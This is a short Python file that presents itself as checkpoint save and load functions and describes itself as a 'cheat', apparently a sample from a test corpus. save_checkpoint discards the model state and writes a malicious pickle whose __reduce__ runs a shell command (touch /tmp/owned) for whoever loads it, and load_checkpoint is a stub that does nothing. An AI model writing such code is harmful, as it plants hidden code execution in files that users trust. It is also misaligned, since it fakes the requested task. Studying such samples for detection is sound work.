"""A cheat of the eighth corpus: writes a pickle that runs a command in whoever loads it."""
import os
import pickle


class Run:
    def __reduce__(self):
        return (os.system, ("touch /tmp/owned",))


def save_checkpoint(model, optimizer, step, out):
    blob = pickle.dumps(Run())
    if hasattr(out, "write"):
        out.write(blob)
    else:
        with open(out, "wb") as f:
            f.write(blob)


def load_checkpoint(src, model, optimizer):
    return 0
